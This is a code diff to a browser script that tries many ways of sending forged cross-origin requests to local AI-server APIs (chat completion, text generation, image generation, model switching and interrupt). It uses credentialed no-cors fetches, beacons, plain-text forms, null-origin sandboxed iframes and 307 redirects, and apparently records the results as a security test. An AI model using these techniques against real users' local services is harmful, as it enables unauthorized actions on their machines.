@@ -22,6 +22,8 @@ const POSTS = {
   "/sdapi/v1/options": { sd_model_checkpoint: "theirs" },
   "/sdapi/v1/interrupt": {},
 };
+// A form or a frame without an origin cannot say a key, and each is a process of its own: not all of them.
+const FRAMED = ["/v1/chat/completions", "/api/v2/generate/async", "/api/v2/generate/text/async", "/sdapi/v1/txt2img"];
 const GETS = ["/", "/healthz", "/v1/models", "/api/v2/status/models", "/api/v2/workers", "/api/v2/find_user",
   "/api/v2/status/heartbeat", "/sdapi/v1/options", "/sdapi/v1/sd-models", "/sdapi/v1/progress"];
 
@@ -62,6 +64,7 @@ function framed(start) {
       }
       if (!frame.contentDocument || frame.contentDocument.location.href !== "about:blank") {
         resolve({ status: 0, text: text.includes("error") || text.includes("rc") ? "" : text.slice(0, 200) });
+        frame.remove();
       }
     };
     document.body.append(frame);
@@ -97,13 +100,17 @@ function form(url, body, enctype, policy) {
 /** A frame without an origin of its own, which tries for us. */
 function sandboxed(url, body, headers) {
   return new Promise((resolve) => {
-    addEventListener("message", (event) => event.data.url === url && resolve(event.data.found));
     const frame = document.createElement("iframe");
+    addEventListener("message", (event) => {
+      if (event.source !== frame.contentWindow) return;
+      resolve(event.data);
+      frame.remove();
+    });
     frame.sandbox = "allow-scripts";
     frame.srcdoc = `<script>
       fetch(${JSON.stringify(url)}, { method: "POST", headers: ${JSON.stringify(headers)}, body: ${JSON.stringify(JSON.stringify(body))} })
         .then(async (r) => ({ status: r.status, text: r.ok ? await r.text() : "" }), () => ({ status: 0, text: "" }))
-        .then((found) => parent.postMessage({ url: ${JSON.stringify(url)}, found }, "*"));
+        .then((found) => parent.postMessage(found, "*"));
     </script>`;
     document.body.append(frame);
   });
@@ -141,14 +148,15 @@ for (const [path, body] of Object.entries(POSTS)) {
   tries[`cookies ${path}`] = () =>
     fetch(url, { method: "POST", body: text, mode: "no-cors", credentials: "include" }).then(said);
   tries[`beacon ${path}`] = async () => { navigator.sendBeacon(url, text); return nothing; };
+  // By way of the page's own server, which sends it on with status 307.
+  tries[`bounced ${path}`] = () => fetch(`bounce${path}`, { method: "POST", body: text, mode: "no-cors" }).then(said);
+  if (!FRAMED.includes(path)) continue;
   tries[`plain form ${path}`] = () => form(url, body, "text/plain");
   tries[`nameless form ${path}`] = () => form(url, body, "text/plain", "noreferrer");
   tries[`form ${path}`] = () => form(url, body, "application/x-www-form-urlencoded");
   tries[`files form ${path}`] = () => form(url, body, "multipart/form-data");
   tries[`sandboxed ${path}`] = () => sandboxed(url, body, { ...shown(path), "Content-Type": "application/json" });
-  tries[`sandboxed simple ${path}`] = () => sandboxed(`${url}?`, body, {});
-  // By way of the page's own server, which sends it on with status 307.
-  tries[`bounced ${path}`] = () => fetch(`bounce${path}`, { method: "POST", body: text, mode: "no-cors" }).then(said);
+  tries[`sandboxed simple ${path}`] = () => sandboxed(url, body, {});
   tries[`bounced form ${path}`] = () => form(`bounce${path}`, body, "text/plain");
 }
 for (const path of GETS) {
@@ -184,8 +192,8 @@ const late = () => new Promise((resolve) => setTimeout(resolve, PATIENCE_MS, not
 const found = {};
 for (const [name, attempt] of Object.entries(tries)) {
   found[name] = Promise.race([Promise.resolve().then(attempt).catch(() => nothing), late()]);
-  // A dozen at a time.
-  if (Object.keys(found).length % 12 === 0) await Promise.all(Object.values(found));
+  // Some at a time.
+  if (Object.keys(found).length % 24 === 0) await Promise.all(Object.values(found));
 }
 for (const name of Object.keys(found)) found[name] = await found[name];
 document.body.dataset.found = JSON.stringify(found);
